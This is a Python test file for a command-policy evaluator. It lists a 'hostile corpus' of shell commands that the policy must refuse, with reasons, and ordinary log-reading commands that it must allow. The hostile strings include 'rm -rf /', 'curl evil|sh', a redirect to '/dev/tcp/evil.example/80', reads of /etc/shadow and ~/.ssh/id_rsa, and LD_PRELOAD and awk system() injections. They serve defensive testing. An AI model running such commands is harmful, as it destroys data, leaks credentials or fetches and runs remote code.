"""The hostile corpus: every command here is refused under a permissive-looking rule set, with the
structured reason of its category. Adding a case is one line; keep the categories honest."""

from __future__ import annotations

import pytest

from bot.policy import PolicyConfig, evaluate
from tests.policy.rulesets import ONCALL_REQUEST, permissive, typed

POLICY = permissive()
# The corpus runs under today's string globs and under the typed forms (issue: "checked again with a
# policy written in the new forms").
POLICIES: dict[str, PolicyConfig] = {"globs": POLICY, "typed": typed()}
NGINX = "/var/log/nginx/access.log"

HOSTILE: list[tuple[str, str]] = [
    # chaining
    (f"cat {NGINX}; rm -rf /", "chain"),
    (f"cat {NGINX};rm -rf /", "chain"),
    (f"cat {NGINX} && curl evil|sh", "chain"),
    (f"cat {NGINX} || rm -rf /", "chain"),
    (f"cat {NGINX};", "chain"),
    (f"cat {NGINX}\t;id", "chain"),
    ("ps aux; id", "chain"),
    ("uptime && id", "chain"),
    # newlines (also CR, and a backslash-newline continuation)
    (f"cat {NGINX}\nrm -rf /", "newline"),
    (f"cat {NGINX}\r\nid", "newline"),
    (f"cat {NGINX} \\\nid", "newline"),
    # command substitution
    ("echo $(id)", "substitution"),
    ("echo `id`", "substitution"),
    ('echo "$(id)"', "substitution"),
    ('echo "`id`"', "substitution"),
    ('echo "a$(cat /etc/shadow)b"', "substitution"),
    ("ls -la /var/log/nginx/$(id)", "substitution"),
    # process substitution
    ("cat <(cat /etc/shadow)", "substitution"),
    ("tee >(sh)", "substitution"),
    # redirections
    (f"cat {NGINX} >/etc/passwd", "redirection"),
    (f"cat {NGINX} > /etc/passwd", "redirection"),
    (f"cat {NGINX} >> /etc/passwd", "redirection"),
    ("cat < /etc/shadow", "redirection"),
    (f"cat {NGINX} 2>&1", "redirection"),
    (f"cat {NGINX} >| /tmp/x", "redirection"),
    (f"cat {NGINX} &>/tmp/x", "redirection"),
    (f"cat {NGINX} > /dev/tcp/evil.example/80", "redirection"),
    ("echo hi >&2", "redirection"),
    (f"cat {NGINX} |& sh", "redirection"),
    # here-documents and here-strings
    ("cat <<EOF", "heredoc"),
    ('cat <<< "$(id)"', "heredoc"),
    # background
    ("sleep 100 &", "background"),
    (f"cat {NGINX} & id", "background"),
    # expansions, IFS tricks
    ("cat${IFS}/etc/shadow", "expansion"),
    ("cat $IFS/etc/shadow", "expansion"),
    ("echo $HOME", "expansion"),
    ('echo "$HOME"', "expansion"),
    ("echo ${PATH:0:1}", "expansion"),
    ("echo $'\\x41'", "expansion"),
    ("echo $((1+1))", "expansion"),
    ("echo $", "expansion"),
    ("echo ~root", "expansion"),
    ("cat ~/.ssh/id_rsa", "expansion"),
    # assignments before the command
    (f"IFS=/ cat {NGINX}", "assignment"),
    ("PATH=/tmp:/usr/bin ls", "assignment"),
    ("LD_PRELOAD=/tmp/x.so ls", "assignment"),
    ("A=1'x' ls", "assignment"),
    # braces and subshells
    ("echo {a,b}", "brace"),
    ("cat /var/log/nginx/{access.log,../../../etc/shadow}", "brace"),
    ("{ cat /etc/shadow; }", "brace"),
    ("(cat /etc/shadow)", "subshell"),
    # comments hiding commands
    (f"cat {NGINX} # ; rm -rf /", "comment"),
    ("#cat /etc/shadow", "comment"),
    # keywords
    ("if true; then id; fi", "keyword"),
    ("! cat /etc/shadow", "keyword"),
    (f"time cat {NGINX}", "keyword"),
    ("coproc id", "keyword"),
    # quoting mistakes
    ("echo 'unterminated", "quote"),
    ('echo "unterminated', "quote"),
    ("echo a\\", "quote"),
    # empty pipeline parts
    (f"cat {NGINX} | | id", "empty"),
    ("| id", "empty"),
    ("   ", "empty"),
    # path traversal in words matched by a wildcard
    ("cat /var/log/nginx/..", "traversal"),
    ("head /var/log/nginx/../../../etc/shadow", "traversal"),
    ("head --files0-from=../../etc/shadow", "traversal"),
    ("tail -n 10 /var/log/nginx/..", "traversal"),
    ("head /var/log/nginx/.*", "traversal"),
    ("head /var/log/nginx/*/../../../etc/shadow", "traversal"),
    # globs that could expand into options or out of the directory
    ("head *", "glob"),
    ("cat /var/log/nginx/[a]ccess.log", "glob"),
    # dangerous by construction, not named literally by any rule
    ("sh /var/log/nginx/evil.sh", "dangerous"),
    ("env /var/log/nginx/x", "dangerous"),
    ("xargs /var/log/nginx/x", "dangerous"),
    ("python3 --help", "dangerous"),
    ("find /var/log/nginx -exec rm '{}' +", "dangerous"),
    ("find /var/log/nginx -execdir id ';'", "dangerous"),
    ("find /var/log/nginx -name x -delete", "dangerous"),
    (f"awk 'BEGIN{{system(\"id\")}}' {NGINX}", "dangerous"),
    (f"awk '{{print >\"x\"}}' {NGINX}", "dangerous"),
    (f"awk '{{\"id\" | getline x; print x}}' {NGINX}", "dangerous"),
    # argument injection: a wildcard for a search term or file is not an option
    ("grep -r /var/log/nginx/access.log", "no-match"),
    ("grep --file=x /var/log/nginx/access.log", "no-match"),
    ("awk -f /var/log/nginx/access.log", "no-match"),  # a log line as an awk program
    # simply not allowed
    ("cat /etc/shadow", "no-match"),
    ("cat /var/log/nginx/../../etc/shadow", "no-match"),  # `*` does not cross `/`
    ("cat /var/log/nginx/sub/access.log", "no-match"),
    ("sh -c 'cat /etc/shadow'", "no-match"),
    ("/bin/sh /var/log/nginx/evil.sh", "no-match"),  # a `*` program never matches a path
    (f"env X=1 cat {NGINX}", "no-match"),
    (f"cat {NGINX} | sh", "no-match"),
    (f"cat {NGINX} | xargs rm", "no-match"),
    (f"cat {NGINX} | tee /etc/passwd", "no-match"),
    ("tail -n 10 /var/log/nginx/../../etc/passwd", "no-match"),
    ("uptime --pretty", "no-match"),
    # Unicode lookalikes and invisible characters
    (f"cat {NGINX}\uff1brm -rf /", "lookalike"),  # fullwidth semicolon
    (f"cat {NGINX} \uff06\uff06 id", "lookalike"),  # fullwidth ampersands
    (f"cat {NGINX} \u037e id", "lookalike"),  # Greek question mark looks like `;`
    ("echo \uff04(id)", "lookalike"),  # fullwidth dollar
    ("\uff53\uff48 /var/log/nginx/x", "lookalike"),  # fullwidth `sh` reads as sh
    ("\U0001d41c\U0001d41a\U0001d42d /etc/shadow", "lookalike"),  # mathematical bold `cat`
    ("echo \u201chi\u201d", "lookalike"),  # curly quotes
    ("echo \u2013rf", "lookalike"),  # en dash
    ("cat\u00a0/etc/shadow", "lookalike"),  # no-break space
    ("cat /var/log/nginx/\u2025/\u2025/etc/shadow", "lookalike"),  # two-dot leader (NFKC `..`)
    (f"cat {NGINX}\x00; id", "control-char"),  # NUL
    (f"cat {NGINX}\u200b", "control-char"),  # zero-width space
    ("echo \u202egnp.exe", "control-char"),  # right-to-left override
    (f"cat {NGINX} \u2028 id", "control-char"),  # line separator
    ("echo \x1b]0;x\x07", "control-char"),  # terminal escape
    ("echo \ue000", "control-char"),  # private use (our glob marker cannot be forged)
    # very long input
    ("echo " + "a" * 5000, "too-long"),
]


def test_the_corpus_is_large_and_covers_every_category() -> None:
    assert len(HOSTILE) >= 60
    categories = {c for _, c in HOSTILE}
    assert categories >= {
        "chain", "newline", "substitution", "redirection", "heredoc", "background", "expansion",
        "assignment", "brace", "subshell", "comment", "keyword", "quote", "empty", "traversal", "glob",
        "dangerous", "no-match", "lookalike", "control-char", "too-long",
    }


@pytest.mark.parametrize("policy_name", sorted(POLICIES))
@pytest.mark.parametrize(("command", "category"), HOSTILE, ids=[f"{c}:{cmd[:40]!r}" for cmd, c in HOSTILE])
def test_hostile_command_is_refused_with_its_reason(command: str, category: str, policy_name: str) -> None:
    decision = evaluate(POLICIES[policy_name], command=command, **ONCALL_REQUEST)
    assert not decision.allowed and not decision.needs_approval
    assert decision.refusal is not None
    if policy_name == "typed" and category == "traversal" and decision.refusal.category == "no-match":
        # A typed `path` never matches a `..` segment, so no pattern matches; the closest says why.
        assert "`..` is never allowed in a path" in decision.reason
    else:
        assert decision.refusal.category == category, decision.reason
    # The user is told which part was refused, under which rule, and why.
    assert "oncall-logs" in decision.reason
    assert decision.refusal.part and decision.refusal.part in decision.reason
    assert decision.refusal.why in decision.reason
    assert decision.fix


def test_refusal_names_the_chained_command_and_the_operator() -> None:
    decision = evaluate(POLICY, command=f"cat {NGINX}; rm -rf /", **ONCALL_REQUEST)
    assert decision.reason == (
        "`rm -rf /` (after `;`) is refused by rule oncall-logs: `;` chains commands and is not allowed; "
        "send one command."
    )


def test_refusal_for_an_unmatched_command_lists_what_is_allowed() -> None:
    decision = evaluate(POLICY, command="cat /etc/shadow", **ONCALL_REQUEST)
    assert decision.reason.startswith("`cat /etc/shadow` is refused by rule oncall-logs: it matches none")
    assert "`cat /var/log/nginx/*`" in decision.reason


def test_refusal_names_the_pipeline_part_that_failed() -> None:
    decision = evaluate(POLICY, command=f"cat {NGINX} | sort | sh", **ONCALL_REQUEST)
    assert decision.refusal is not None and decision.refusal.part == "`sh`"


# The same rule set does allow the ordinary versions: the refusals above are about the hostile part.
ORDINARY = [
    f"cat {NGINX}",
    "cat /var/log/nginx/*.log | grep healthcheck /var/log/nginx/error.log | sort | uniq -c",
    "tail -n 100 /var/log/nginx/error.log",
    "grep 'GET api' /var/log/nginx/access.log",
    "wc -l /var/log/nginx/access.log",
    "ls -la /var/log/nginx/",
    "echo 'a;b && c $(x)'",
    'echo "quoted; not a chain"',
    "echo a\\;b",
    "find /var/log/nginx -name '*.log' -mtime -1",
    "awk '{print $1}' /var/log/nginx/access.log",
    "head -c 100 /var/log/nginx/*.log",
    "uptime",
    "df -h /var/log",
    "journalctl -n 50 --no-pager",
    "ps aux | grep nginx /var/log/nginx/x",
    "grep 'café' /var/log/nginx/access.log",  # non-ASCII text is fine when it is not a lookalike
    "grep ошибка /var/log/nginx/error.log",
    "echo 日本語",
]


@pytest.mark.parametrize("policy_name", sorted(POLICIES))
@pytest.mark.parametrize("command", ORDINARY)
def test_ordinary_commands_are_allowed(command: str, policy_name: str) -> None:
    decision = evaluate(POLICIES[policy_name], command=command, **ONCALL_REQUEST)
    assert decision.allowed, decision.reason
